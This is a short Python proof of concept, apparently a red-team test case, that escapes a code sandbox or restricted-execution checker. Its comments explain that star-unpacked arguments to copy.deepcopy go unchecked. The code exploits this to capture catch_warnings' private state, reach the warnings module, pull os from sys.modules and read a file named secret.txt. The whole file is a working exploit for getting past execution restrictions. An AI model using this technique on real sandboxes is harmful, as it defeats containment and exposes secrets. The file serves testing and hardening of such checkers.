# family: red team, round 9 (deepcopy_starred_memo)
# copy.deepcopy's memo must be a new dict, judged on call.args[1:] and keywords; arguments unpacked with *
# are never looked at, so the tool's own memo object sees the ORIGINAL private __dict__ of catch_warnings,
# whose _module is the warnings module; warnings.sys.modules["os"] follows.
import copy
import warnings


class Memo:
    def __init__(self):
        self.stored = []

    def get(self, key, default=None):
        return default if len(self.stored) < 2 else 0

    def __setitem__(self, key, value):
        self.stored.append(value)

    def __getitem__(self, key):
        raise KeyError(key)


def run():
    memo = Memo()
    copy.deepcopy(*(warnings.catch_warnings(), memo))
    state = [v for v in memo.stored if isinstance(v, list)][0][0]
    mod = state["_module"]
    osmod = mod.sys.modules["os"]
    fd = osmod.open("/tmp/r9/work/secret.txt", osmod.O_RDONLY)
    text = osmod.read(fd, 100).decode().strip()
    osmod.close(fd)
    return mod.__name__, osmod.getpid(), text


print(run())
